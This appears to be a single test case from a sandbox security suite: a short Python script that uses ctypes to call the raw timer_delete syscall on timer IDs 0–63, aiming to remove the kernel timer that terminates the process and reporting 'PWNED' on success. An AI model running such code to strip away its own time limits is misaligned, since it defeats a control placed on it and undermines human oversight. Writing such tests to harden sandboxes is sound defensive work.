# attack: delete-the-kernel-timer
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: control
# success: takes away the timer that ends it
import ctypes
libc = ctypes.CDLL(None, use_errno=True)

def run():
    deleted = [number for number in range(64) if libc.syscall({"x86_64": 226, "aarch64": 111}[MACHINE], number) == 0]
    return "PWNED" if deleted else "refused"
